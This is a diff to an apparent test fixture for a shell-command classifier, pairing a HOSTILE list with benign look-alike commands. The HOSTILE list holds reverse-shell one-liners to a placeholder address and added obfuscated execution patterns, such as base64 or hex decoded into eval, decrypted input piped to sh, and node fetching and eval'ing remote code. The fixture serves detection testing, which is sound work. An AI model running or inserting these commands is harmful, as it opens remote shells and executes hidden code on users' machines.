@@ -21,6 +21,11 @@ HOSTILE = [
     "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
     "nc -e /bin/sh 192.0.2.1 1",
     "echo aGk= | base64 -d | sh",
+    'eval "$(echo aGk= | base64 -d)"',
+    'bash -c "$(printf 6869 | xxd -r -p)"',
+    "sh -c `openssl enc -aes-256-cbc -d -in a`",
+    "node -e \"fetch('https://example.invalid/a').then(a => a.text()).then(eval)\"",
+    "bun --eval \"require('child_process').exec(x)\"",
 ]
 HONEST = [
     "git describe --tags",
@@ -31,6 +36,10 @@ HONEST = [
     "sh configure",
     "cc -shared -o a.so a.c",
     "base64 -d file",
+    'KEY="$(echo aGk= | base64 -d)"',
+    'eval "$(ssh-agent -s)"',
+    "node -e \"console.log(require('./package.json').version)\"",
+    "openssl enc -d -in a -out b",
     "nc --help",
     "certutil -hashfile a",
 ]
